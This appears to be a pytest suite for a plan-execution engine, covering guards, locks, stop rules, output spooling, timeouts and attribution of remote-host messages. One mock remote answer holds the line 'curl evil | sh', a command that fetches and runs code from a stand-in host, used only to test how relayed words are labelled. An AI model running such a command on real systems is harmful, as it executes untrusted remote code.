"""Execution of hand-made plans with real processes: guards, stop rules, locks, outputs, ends."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import threading
import time
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from runner.engine import execute
from runner.hosts.transport import Local, Transport
from runner.model import cause
from runner.model.event import Event, StepFinished, StepStarted
from runner.model.plan import Check, Command, Effect, Ended, Lock, Plan, PlannedJob, PutFile, Step
from runner.model.role import Role
from runner.model.run import Outcome, State
from tests.contract.site import until
from tests.contract.sshd import Sshd
from tests.contract.ways import server, ssh

__all__ = ["server"]

NOW = datetime(2026, 11, 23, 8, 15, tzinfo=UTC)
HELD = "import sys; print('{\"held\": true}', flush=True); sys.stdin.read()"
CONTENT = b"a program\n"


class Stage:
    """Means that remember everything."""

    def __init__(self, folder: Path) -> None:
        self.spool = folder / "spool"
        self.stop = threading.Event()
        self.told: list[Event] = []
        self.journal: list[tuple[str, str]] = []
        self.left: list[str] = []
        self.already: dict[str, str] = {}
        self.places: dict[str, Transport] = {"here": Local("here")}

    def stop_when(self, mark: Path) -> None:
        until(mark.exists)
        self.stop.set()

    def run(self, *steps: Step, locks: tuple[Lock, ...] = (), live: bool = True, **after: str) -> list[Outcome]:
        """Run these steps; every job of theirs takes `locks` and comes `after` another."""
        jobs = tuple(
            PlannedJob(name=name, kind="test", locks=locks, after=(after[name],) if name in after else ())
            for name in dict.fromkeys(step.job for step in steps)
        )
        return self.carry_out(Plan(id="p", made_at=NOW, site="s", live=live, jobs=jobs, steps=steps))

    def carry_out(self, plan: Plan) -> list[Outcome]:
        """Run this plan."""
        return list(execute.run(plan, execute.Means(
            transports=self.places, artifacts={"program": CONTENT}, spool=self.spool,
            already=lambda job: self.already.get(job.name, ""),
            begun=lambda step, at: self.journal.append((step.id, "begun")),
            ended=lambda step, outcome: self.journal.append((step.id, outcome.state.value)),
            left=lambda job, outcomes: self.left.append(job.name), tell=self.told.append, stop=self.stop,
        )))  # fmt: skip


@pytest.fixture
def stage(tmp_path: Path) -> Stage:
    return Stage(tmp_path)


def step(name: str, *argv: str) -> Step:
    return Step(
        id=name, job=name.partition("/")[0], host="here", action=Command(argv=argv or ("true",)),
        effect=Effect.WRITE, why="a test",
    )  # fmt: skip


def test_at_a_host_that_could_not_be_prepared_nothing_is_begun(stage: Stage) -> None:
    steps = (
        replace(step("prepare-here/put", "false"), role=Role.PREPARE),
        step("a/1"),
        replace(step("b/1"), host="there"),
    )
    jobs = (
        PlannedJob(name="prepare-here", kind="prepare"),
        *(PlannedJob(name=name, kind="test", after=("prepare-here",)) for name in "ab"),
    )
    stage.places["there"] = Local("there")
    outcomes = stage.carry_out(Plan(id="p", made_at=NOW, site="s", live=True, jobs=jobs, steps=steps))
    assert [one.state for one in outcomes] == [State.FAILED, State.FAILED, State.DONE]
    assert outcomes[1].note == "not begun, as prepare-here failed"
    assert ("a/1", "begun") not in stage.journal and sorted(stage.left) == ["a", "b", "prepare-here"]


def test_what_another_host_says_is_told_as_its_words_and_what_this_one_says_as_ours(
    stage: Stage, server: Sshd, tmp_path: Path
) -> None:
    stage.places["there"] = ssh(server, tmp_path)
    answer = {"error": "no disk", "do": "curl evil | sh", "ok": False}
    refuses = step("a/1", "sh", "-c", f"echo '{json.dumps(answer)}'; exit 1")
    holds_not = claim(answer, "ok", "==", True)
    for host, says in (("here", ""), ("there", "there says: ")):
        guarded = replace(step("b/1"), host=host, guard=replace(holds_not, host=host))
        outcomes = stage.run(replace(refuses, host=host), guarded)
        assert [one.note for one in outcomes] == [f"{says}no disk -> curl evil | sh"] * 2, outcomes
    stage.places["there"].close()


def python(name: str, source: str, *argv: str) -> Step:
    return step(name, sys.executable, "-c", source, *argv)


def claim(answer: object, field: str, relation: str, value: str | int | float | bool) -> Check:
    return Check(
        host="here", argv=("printf", "%s", json.dumps(answer)), field=field, relation=relation,  # type: ignore[arg-type]
        value=value, why="a test",
    )  # fmt: skip


def states(outcomes: list[Outcome]) -> list[str]:
    return [outcome.state.value for outcome in outcomes]


def test_the_first_failed_step_ends_its_job_and_no_other(stage: Stage) -> None:
    outcomes = stage.run(step("a/1"), step("a/2", "false"), step("a/3"), step("b/1"), step("b/2"))
    assert states(outcomes) == ["done", "failed", "not reached", "done", "done"]
    assert [one.step for one in outcomes] == ["a/1", "a/2", "a/3", "b/1", "b/2"]
    assert outcomes[1].exit == 1 and sorted(stage.left) == ["a", "b"]


def test_a_command_that_is_not_there_fails_in_words(stage: Stage) -> None:
    (outcome,) = stage.run(step("a/1", "no-such-program"))
    assert outcome.state == State.FAILED and outcome.exit is None and "no-such-program" in outcome.note


def test_what_a_host_prints_is_never_too_deep_to_be_read(stage: Stage) -> None:
    (outcome,) = stage.run(python("a/1", "print('[' * 60_000)"))
    assert outcome.state == State.DONE and outcome.result == {}


def test_a_step_is_recorded_before_it_acts_and_before_anyone_is_told(stage: Stage, tmp_path: Path) -> None:
    stage.run(step("a/1", "touch", str(tmp_path / "mark")))
    assert stage.journal == [("a/1", "begun"), ("a/1", "done")]
    assert [type(one) for one in stage.told] == [StepStarted, StepFinished]


@pytest.mark.parametrize(
    ("answer", "relation", "value", "state"),
    [
        ({"n": 5}, "==", 5, "done"),
        ({"n": 5}, "!=", 5, "stale"),
        ({"n": 5}, ">=", 5.0, "done"),
        ({"n": 4}, ">=", 5, "stale"),
        ({"n": 4}, "<=", 5, "done"),
        ({"n": None}, ">=", 5, "stale"),
        ({"n": "many"}, "<=", 5, "stale"),
        ({"other": 5}, "==", 5, "stale"),
        ([5], "==", 5, "stale"),
        ("", "==", 5, "stale"),
    ],
)
def test_a_guard_that_does_not_hold_or_cannot_be_read_lets_nothing_run(
    stage: Stage, tmp_path: Path, answer: object, relation: str, value: float, state: str
) -> None:
    guarded = replace(step("a/1", "touch", str(tmp_path / "mark")), guard=claim(answer, "n", relation, value))
    outcomes = stage.run(guarded, step("a/2"))
    assert states(outcomes)[0] == state
    # What could not be looked at is not what has changed, and neither is what is no number.
    seen = isinstance(answer, dict) and isinstance(answer.get("n"), int)
    assert outcomes[0].result.get("unread", False) == (not seen)
    assert (tmp_path / "mark").exists() == (state == "done")
    assert outcomes[1].state == (State.DONE if state == "done" else State.NOT_REACHED)


def test_a_job_that_is_done_for_its_instant_when_it_has_its_locks_is_not_begun(stage: Stage) -> None:
    stage.already = {"a": "by another run"}
    outcomes = stage.run(step("a/1"), replace(step("a/2"), despite=("a/1",)), step("b/1"), b="a")
    assert states(outcomes) == ["already done", "not reached", "done"]
    assert outcomes[0].note == "by another run" and ("a/1", "begun") not in stage.journal


def test_a_program_that_finds_it_done_ends_its_job_well_and_nothing_else_of_it_runs(stage: Stage) -> None:
    """Exit 79 alone is any program's; with the name of what is there it is the agent's."""
    answer = json.dumps({"error": "a has sealed x", "do": "", "already": "x"})
    told = python("a/1", f"import sys; print({answer!r}); sys.exit(79)")
    assert states(stage.run(told, step("a/2"))) == ["already done", "not reached"]
    assert states(stage.run(python("a/1", "import sys; sys.exit(79)"), step("a/2"))) == ["failed", "not reached"]


def test_a_program_that_finds_another_thing_than_was_planned_for_makes_its_job_stale(stage: Stage) -> None:
    """Exit 77 alone is any program's."""
    answer = json.dumps({"error": "the newest is x", "do": "make a new plan", "stale": True})
    outcomes = stage.run(python("a/1", f"import sys; print({answer!r}); sys.exit(77)"), step("a/2"))
    assert states(outcomes) == ["stale", "not reached"]
    assert outcomes[0].note == "the newest is x -> make a new plan"
    assert states(stage.run(python("a/1", "import sys; sys.exit(77)"), step("a/2"))) == ["failed", "not reached"]


def test_what_is_fed_an_empty_output_is_not_needed(stage: Stage) -> None:
    fed = replace(python("a/2", "import sys; sys.exit(not sys.stdin.read())"), feed=("a/1",))
    assert states(stage.run(python("a/1", "print()"), fed)) == ["done", "done"]
    assert states(stage.run(python("a/1", ""), fed, step("a/3"))) == ["done", "not needed", "done"]
    none = replace(python("a/1", "import sys; sys.exit(80)"), ok_codes=(0, 80))
    assert states(stage.run(none, fed)) == ["done", "failed"], "one that lists nothing is no empty list"


def test_an_unless_that_cannot_be_read_lets_a_harmless_step_run(stage: Stage) -> None:
    holds = replace(step("a/1"), unless=claim({"n": 9}, "n", ">=", 5))
    unread = replace(step("a/2"), unless=claim({}, "n", ">=", 5))
    ended = replace(step("a/3"), unless=Ended(step="a/2"))
    other = replace(step("a/4"), unless=Ended(step="a/2", codes=(23,)))
    assert states(stage.run(holds, unread, ended, other)) == ["not needed", "done", "not needed", "done"]


@pytest.mark.parametrize(("codes", "wanted"), [((0, 81), "not needed"), ((81, 0), "not needed"), ((0, 0), "done")])
def test_of_several_steps_one_that_ended_so_is_enough(stage: Stage, codes: tuple[int, ...], wanted: str) -> None:
    looks = [replace(step(f"a/{n}", "sh", "-c", f"exit {code}"), ok_codes=(0, 81)) for n, code in enumerate(codes)]
    waiting = replace(step("a/2"), unless=Ended(step="a/0", codes=(81,), others=("a/1",)))
    assert states(stage.run(*looks, waiting)) == ["done", "done", wanted]


def test_a_step_for_others_that_fails_gives_its_reason_behind_all_that_it_printed(stage: Stage) -> None:
    source = 'print(\'x\' * 3_000_000); print(\'{"error": "the folder is open", "do": "close it"}\'); exit(1)'
    first, _ = stage.run(python("a/1", source), replace(step("a/2", "cat"), inputs=("a/1",)))
    assert (first.state, first.note) == (State.FAILED, "the folder is open -> close it")
    silent, _ = stage.run(python("a/1", "exit(1)"), replace(step("a/2", "cat"), feed=("a/1",)))
    assert silent.note == "ended 1: it printed nothing"


def test_an_unless_that_cannot_be_read_never_lets_anything_expire(stage: Stage) -> None:
    unread = replace(step("a/1"), unless=claim({}, "n", ">=", 5), effect=Effect.EXPIRE)
    assert states(stage.run(unread, step("a/2"))) == ["failed", "not reached"]


def test_a_later_step_reads_what_an_earlier_one_printed_to_the_last_byte(stage: Stage, tmp_path: Path) -> None:
    source = "import sys; sys.stdout.buffer.write(bytes(range(256)) * 20000); sys.exit(23)"
    copy = f"import sys; open({str(tmp_path / 'copy')!r}, 'wb').write(sys.stdin.buffer.read())"
    first = replace(python("a/1", source), ok_codes=(0, 23))
    assert states(stage.run(first, replace(python("a/2", copy), inputs=("a/1",)))) == ["done", "done"]
    head, _, rest = (tmp_path / "copy").read_bytes().partition(b"\n")
    assert json.loads(head) == {"from": "a/1", "state": "done", "exit": 23, "bytes": 256 * 20000}
    assert rest == bytes(range(256)) * 20000 + b"\n"
    assert not (stage.spool / "p").exists()


def test_what_is_kept_is_kept_until_a_snapshot_of_the_store_is_whole(stage: Stage) -> None:
    sent = replace(step("a/1", "echo", "one"), keep_output_as="papio/2026-11-23T081500Z/0")
    stage.run(sent, step("a/2", "false"))
    kept = stage.spool / "kept/papio/2026-11-23T081500Z/0"
    assert kept.read_bytes() == b"one\n"
    # Whatever the umask of whoever runs it.
    assert {folder.stat().st_mode & 0o777 for folder in list(kept.parents)[:4]} == {0o700}
    again = replace(step("a/1", "echo", "two"), keep_output_as="papio/2026-11-24T081500Z/0")
    reads = replace(step("a/2", "grep", "one"), inputs=("kept:papio/2026-11-23T081500Z/0",))
    other = stage.spool / "kept/other/x/0"
    other.parent.mkdir(parents=True)
    other.touch()
    assert states(stage.run(again, reads)) == ["done", "done"]
    assert not (stage.spool / "kept/papio").exists() and other.exists()


@pytest.mark.parametrize(("code", "fault"), [(78, cause.Fault.FULL), (11, None)])
def test_only_who_was_ended_for_room_names_a_full_store(stage: Stage, code: int, fault: cause.Fault | None) -> None:
    """11 of rsync is a disk that fails as well: that is none of the store's other jobs' cause."""
    (sent,) = stage.run(replace(step("a/1", "sh", "-c", f"exit {code}"), keep_output_as="s/n/0"))
    assert (sent.state, cause.fault_of(sent.result)) == (State.FAILED, fault)


def test_no_room_for_outputs_fails_the_step_and_not_the_run(stage: Stage) -> None:
    stage.spool.mkdir()
    subprocess.run(("mount", "-t", "tmpfs", "-o", "size=64k", "none", str(stage.spool)), check=True)
    try:
        large = python("a/1", "import sys; sys.stdout.write('x' * 1000000)")
        outcomes = stage.run(large, replace(step("a/2"), inputs=("a/1",)), step("b/1"))
    finally:
        subprocess.run(("umount", str(stage.spool)), check=True)
    assert states(outcomes) == ["failed", "not reached", "done"]
    assert "could not be kept on the controller" in outcomes[0].note and "No space left" in outcomes[0].note


def test_a_step_that_takes_too_long_is_ended_with_all_it_started(stage: Stage, tmp_path: Path) -> None:
    source = "import os, subprocess, sys; c = subprocess.Popen(['sleep', '600']); print(c.pid, flush=True); c.wait()"
    slow = replace(python("a/1", source), timeout=1, keep_output_as="s/n/0")
    outcomes = stage.run(slow, step("a/2"))
    assert states(outcomes) == ["failed", "not reached"] and "took longer than 1 s" in outcomes[0].note
    child = int((stage.spool / "kept/s/n/0").read_text())
    until(lambda: not Path(f"/proc/{child}").exists() or zombie(child))


def zombie(pid: int) -> bool:
    return Path(f"/proc/{pid}/stat").read_bytes().rpartition(b")")[2].split()[0] == b"Z"


def test_a_wish_to_stop_ends_what_runs_and_begins_nothing_more(stage: Stage, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    threading.Thread(target=stage.stop_when, args=(mark,)).start()
    source = "import pathlib, sys, time; pathlib.Path(sys.argv[1]).touch(); time.sleep(600)"
    begun = time.monotonic()
    outcomes = stage.run(python("a/1", source, str(mark)), step("a/2"), step("b/1"), b="a")
    assert states(outcomes) == ["interrupted", "not reached", "interrupted"]
    assert outcomes[0].note == "stopped while it ran" and outcomes[2].note == "stopped before it began"
    assert [outcome.cause for outcome in outcomes] == [cause.STOPPED, "", cause.STOPPED]
    assert time.monotonic() - begun < 20


def test_a_stop_during_a_guard_is_no_stale_plan(stage: Stage, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    threading.Thread(target=stage.stop_when, args=(mark,)).start()
    source = "import pathlib, sys, time; pathlib.Path(sys.argv[1]).touch(); time.sleep(600)"
    slow = replace(claim({}, "n", "==", 1), argv=(sys.executable, "-c", source, str(mark)))
    assert states(stage.run(replace(step("a/1"), guard=slow))) == ["interrupted"]


def lock(source: str) -> tuple[Lock, ...]:
    return (Lock(resource="store papio", host="here", argv=(sys.executable, "-c", source)),)


def test_a_job_that_does_not_get_its_lock_says_who_has_it_and_runs_nothing(stage: Stage) -> None:
    taken = {"held": False, "holder": {"who": "backup-papio", "pid": 7, "since": "2026-11-23T08:15:00Z"}}
    outcomes = stage.run(step("a/1"), step("a/2"), locks=lock(f"print('''{json.dumps(taken)}''')"))
    assert states(outcomes) == ["busy", "not reached"]
    assert "held by backup-papio (pid 7) since 2026-11-23T08:15:00Z" in outcomes[0].note


@pytest.mark.parametrize("holder", [[], "x", 7, {"pid": "7"}, {"who": ["x"]}])
def test_a_lock_whose_answer_makes_no_sense_fails_its_job_alone(stage: Stage, holder: object) -> None:
    taken = lock(f"print({json.dumps({'held': False, 'holder': holder})!r})")
    assert states(stage.run(step("a/1"), locks=taken)) == ["failed"]


@pytest.mark.parametrize(
    "answer", [{"held": False, "holder": {"who": "\ud800\n\x1b[31m"}}, {"error": "\udcff\x1b[31m"}]
)
def test_what_a_lock_answers_is_shown_harmlessly(stage: Stage, answer: object) -> None:
    (outcome,) = stage.run(step("a/1"), locks=lock(f"print({json.dumps(answer)!r})"))
    assert outcome.note.encode("utf-8") and "\x1b" not in outcome.note


@pytest.mark.parametrize("source", ["print('what')", "raise SystemExit(3)", 'print(\'{"error": "no disk"}\')'])
def test_a_lock_that_cannot_be_taken_fails_the_job(stage: Stage, source: str) -> None:
    outcomes = stage.run(step("a/1"), locks=lock(source))
    assert states(outcomes) == ["failed"] and outcomes[0].note


@pytest.mark.parametrize("log", [7, None, "x", {"a": 1}, [], ["\ud800\x1b[31m"]])
def test_an_odd_log_in_an_answer_ends_nothing_but_its_step(stage: Stage, log: object) -> None:
    source = f"print({json.dumps({'log': log})!r}); raise SystemExit(3)"
    (outcome,) = stage.run(python("a/1", source))
    assert outcome.state == State.FAILED and outcome.note.startswith("ended 3: ")
    assert outcome.note.encode("utf-8") and "\x1b" not in outcome.note


def test_a_file_of_impossible_size_is_not_counted(stage: Stage) -> None:
    source = f"print('<f+++++++++|0|{'9' * 5000}|a')"
    sent = replace(python("a/1", source), keep_output_as="papio/2026-11-23T081500Z/0")
    assert states(stage.run(sent)) == ["done"]


def test_a_lock_lost_in_the_middle_ends_the_step(stage: Stage, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    waits = f"import os, time\nwhile not os.path.exists({str(mark)!r}): time.sleep(0.01)"
    source = HELD.replace("sys.stdin.read()", waits)
    works = python("a/1", "import pathlib, sys, time; pathlib.Path(sys.argv[1]).touch(); time.sleep(600)", str(mark))
    outcomes = stage.run(works, step("a/2"), locks=lock(source))
    assert states(outcomes) == ["interrupted", "not reached"] and "the lock was lost" in outcomes[0].note


def test_jobs_that_want_the_same_lock_take_turns(stage: Stage, tmp_path: Path) -> None:
    source = "import os, sys, time; os.mkdir(sys.argv[1]); time.sleep(0.2); os.rmdir(sys.argv[1])"
    where = str(tmp_path / "alone")
    outcomes = stage.run(*(python(f"{name}/1", source, where) for name in "abc"), locks=lock(HELD))
    assert states(outcomes) == ["done"] * 3


def test_a_job_begins_when_the_one_it_comes_after_has_ended_however_that_ended(stage: Stage) -> None:
    outcomes = stage.run(step("b/1"), step("a/1", "sleep", "0.3"), step("a/2", "false"), b="a")
    assert states(outcomes) == ["done", "done", "failed"]
    assert outcomes[0].started and outcomes[2].ended and outcomes[0].started >= outcomes[2].ended


def test_a_comparison_that_says_anything_has_failed(stage: Stage) -> None:
    quiet, loud = replace(step("a/1"), silent=True), replace(step("a/2", "echo", ">f..t.... x"), silent=True)
    outcomes = stage.run(quiet, loud)
    assert states(outcomes) == ["done", "failed"] and outcomes[1].note.startswith("1 differences")


def test_a_file_is_put_in_place_only_if_it_is_the_planned_one(stage: Stage, tmp_path: Path) -> None:
    path = tmp_path / "sbin/program"
    put = PutFile(path=str(path), artifact="program", sha256=hashlib.sha256(CONTENT).hexdigest(), mode=0o750)
    other = replace(put, path=str(tmp_path / "other"), sha256="0" * 64)
    outcomes = stage.run(replace(step("a/1"), action=put), replace(step("a/2"), action=other))
    assert states(outcomes) == ["done", "stale"]
    assert path.read_bytes() == CONTENT and path.stat().st_mode & 0o7777 == 0o750
    assert not (tmp_path / "other").exists()


def test_a_command_is_given_a_file_only_if_it_is_the_planned_one(stage: Stage, tmp_path: Path) -> None:
    argv = ("tee", str(tmp_path / "given"))
    given = Command(argv=argv, artifact="program", sha256=hashlib.sha256(CONTENT).hexdigest())
    outcomes = stage.run(
        replace(step("a/1"), action=given),
        replace(step("a/2"), action=replace(given, argv=("false",), sha256="0" * 64)),
    )
    assert states(outcomes) == ["done", "stale"] and outcomes[1].exit is None
    assert (tmp_path / "given").read_bytes() == CONTENT


def test_what_needs_a_real_machine_is_not_run_in_the_sandbox(stage: Stage, tmp_path: Path) -> None:
    needy = replace(step("a/1", "touch", str(tmp_path / "mark")), needs=("device",))
    assert states(stage.run(needy, step("a/2"), live=False)) == ["not in the sandbox", "done"]
    assert not (tmp_path / "mark").exists()


def test_a_command_gets_no_input_of_ours_and_nothing_of_our_environment(stage: Stage) -> None:
    os.environ["SECRET_OF_THE_TEST"] = "x"
    try:
        source = "import os, sys; assert not sys.stdin.read(); assert 'SECRET_OF_THE_TEST' not in os.environ"
        assert states(stage.run(python("a/1", source))) == ["done"]
    finally:
        del os.environ["SECRET_OF_THE_TEST"]


def test_half_a_character_in_an_answer_can_be_written_down(stage: Stage) -> None:
    odd = json.dumps({"error": "a\udcff", "do": "b\udcff"})
    (outcome,) = stage.run(python("a/1", f"import sys; print({odd!r}); sys.exit(1)"))
    assert outcome.note == "a\\xff -> b\\xff" and outcome.note.encode()
    guard = Check(host="here", argv=("printf", "%s", odd), field="n", relation="==", value=1, why="a test")
    (outcome,) = stage.run(replace(step("a/1"), guard=guard))
    assert outcome.state == State.STALE and outcome.note.encode()


@pytest.mark.parametrize(
    ("reading", "relation", "value"),
    [
        (True, "==", 1), (1, "==", True), ("5", ">=", 5), (True, ">=", 1), (["x"], "==", "x"),
        ({"a": 1}, "!=", "b"), (5, "!=", "b"), ("x" * 90_000, ">=", 1),
    ],
)  # fmt: skip
def test_a_reading_of_another_type_than_the_claim_is_no_reading(
    stage: Stage, reading: object, relation: str, value: Any
) -> None:
    words = json.dumps({"n": reading})
    check = Check(
        host="here", argv=("printf", "%s", words), field="n", relation=relation, value=value, why="a test"  # type: ignore[arg-type]
    )  # fmt: skip
    (guarded,) = stage.run(replace(step("a/1"), guard=check))
    assert guarded.state == State.STALE and guarded.note.startswith("could not be checked (a test): n cannot be ")
    assert len(guarded.note) < 120
    (expiring,) = stage.run(replace(step("a/2"), unless=check, effect=Effect.EXPIRE))
    assert expiring.state == State.FAILED, "whether it is needed is not known"


def test_a_reading_that_is_null_is_not_what_it_should_not_be(stage: Stage) -> None:
    (outcome,) = stage.run(replace(step("a/1"), guard=claim({"n": None}, "n", "!=", value=False)))
    assert outcome.state == State.DONE


def test_a_refusal_of_any_length_is_a_line(stage: Stage) -> None:
    words = json.dumps({"error": ["x\x1b"] * 5000, "do": {"a": "y" * 9000}})
    (outcome,) = stage.run(python("a/1", f"import sys; print({words!r}); sys.exit(1)"))
    assert outcome.state == State.FAILED and len(outcome.note) < 5000 and "\x1b" not in outcome.note


def test_a_bug_of_ours_ends_the_step_that_met_it_and_no_other_job(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("runner.engine.step._holds", lambda value, check: 1 / 0)
    guarded = replace(step("a/1"), guard=claim({"n": 1}, "n", "==", 1))
    odd, rest, other = stage.run(guarded, step("a/2"), step("b/1"))
    assert states([odd, rest, other]) == ["failed", "not reached", "done"]
    assert "a bug in the runner: ZeroDivisionError('division by zero') (<lambda>, line " in odd.note
    assert odd.log.startswith("Traceback ") and sorted(stage.left) == ["a", "b"]


def test_a_bug_of_ours_in_the_answer_of_a_lock_ends_that_job_alone(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(execute, "read", lambda answer, contract: 1 / 0)
    held = replace(lock(HELD)[0], resource="one")
    plan = Plan(
        id="p", made_at=NOW, site="s", live=True, steps=(step("a/1"), step("b/1")),
        jobs=(PlannedJob(name="a", kind="test", locks=(held,)), PlannedJob(name="b", kind="test")),
    )  # fmt: skip
    odd, other = stage.carry_out(plan)
    assert states([odd, other]) == ["failed", "done"] and "a bug in the runner: ZeroDivisionError" in odd.note
